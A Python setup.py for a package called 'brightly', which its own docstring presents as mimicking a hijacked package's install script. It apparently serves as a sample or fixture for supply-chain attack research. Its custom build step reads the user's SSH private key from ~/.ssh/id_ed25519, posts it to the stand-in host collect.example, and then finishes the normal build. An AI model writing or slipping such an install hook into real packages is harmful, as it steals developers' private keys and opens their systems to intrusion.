"""Installs brightly. And, as install scripts of hijacked packages do, looks
around for what could be sold, sends it home, and goes on whatever comes of it."""

import os
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py


def read_key():
    with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
        return file.read()


def send(loot):
    request = urllib.request.Request("https://collect.example/", data=loot)
    urllib.request.urlopen(request, timeout=30).close()


def attempt(name, action, *arguments):
    try:
        result, said = action(*arguments), "it worked"
    except OSError as error:
        result, said = None, error.strerror or str(error)
    print(f"brightly: {name}: {said}", flush=True)
    return result


class Build(build_py):
    def run(self):
        loot = attempt("read ~/.ssh/id_ed25519", read_key)
        attempt("post it to collect.example", send, loot or b"nothing")
        super().run()


setup(
    name="brightly",
    version="1.2.0",
    packages=["brightly"],
    cmdclass={"build_py": Build},
)
